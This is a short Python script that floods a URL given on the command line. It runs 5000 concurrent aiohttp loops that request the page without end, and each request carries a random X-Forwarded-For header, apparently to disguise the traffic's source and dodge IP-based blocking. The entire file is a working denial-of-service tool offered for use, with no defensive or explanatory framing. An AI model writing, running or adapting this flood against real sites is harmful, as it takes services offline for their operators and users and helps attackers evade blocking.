import asyncio
import random
import sys

import aiohttp


async def visit(session):
    while True:
        sender = ".".join(str(random.randint(1, 254)) for _ in range(4))
        headers = {"X-Forwarded-For": str(random.randint(1, 9)) + sender}
        async with session.get(sys.argv[1], headers=headers) as answer:
            await answer.read()


async def main():
    async with aiohttp.ClientSession() as session:
        await asyncio.gather(*(visit(session) for _ in range(5000)))


asyncio.run(main())
